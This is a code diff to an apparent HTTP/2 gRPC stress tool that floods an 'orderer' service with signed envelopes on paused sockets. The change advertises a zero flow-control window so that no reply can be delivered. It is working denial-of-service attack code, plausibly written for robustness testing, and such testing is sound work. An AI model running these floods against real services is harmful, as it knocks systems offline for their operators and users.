@@ -11,6 +11,8 @@ import { judge } from '../rules.ts';
 import { connectHttp2 } from './http2.ts';
 import { Reporter, type Report } from './report.ts';
 
+/** SETTINGS_INITIAL_WINDOW_SIZE = 0. */
+const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);
 const FULL_MESSAGE_BYTES = 100 * 1024 * 1024;
 
 export interface PressureAttack {
@@ -32,7 +34,7 @@ export async function openUnread(attack: PressureAttack, method: Method, count: 
     socket.pause();
     socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
     for (let i = 0; i < Math.min(perConnection, count - opened); i++) {
-      const seed = attack.seeds.make(attack.random, method);
+      const seed = attack.seeds.fromTheBeginning(method);
       const request = grpcMessage(seed.wrap(seed.signed, seed.signer.sign(seed.signed)));
       socket.write(
         Buffer.concat([
@@ -45,7 +47,7 @@ export async function openUnread(attack: PressureAttack, method: Method, count: 
   return () => sockets.forEach((socket) => socket.destroy());
 }
 
-/** Envelopes without end, answers unread. */
+/** Right envelopes without end, on a stream that has no room for a single answer. */
 export async function floodBroadcast(attack: PressureAttack, count: number): Promise<Report> {
   const reporter = new Reporter();
   const socket = connectHttp2(attack.orderer);
@@ -53,7 +55,11 @@ export async function floodBroadcast(attack: PressureAttack, count: number): Pro
   await new Promise<void>((resolve) => socket.once('secureConnect', resolve));
   socket.pause();
   socket.write(
-    Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), frame(HEADERS, END_HEADERS, 1, callHeaders(BROADCAST.path))]),
+    Buffer.concat([
+      PREFACE,
+      frame(SETTINGS, 0, 0, NO_WINDOW),
+      frame(HEADERS, END_HEADERS, 1, callHeaders(BROADCAST.path)),
+    ]),
   );
   const seed = attack.seeds.make(attack.random, BROADCAST);
   const message = grpcMessage(seed.wrap(seed.signed, seed.signer.sign(seed.signed)));
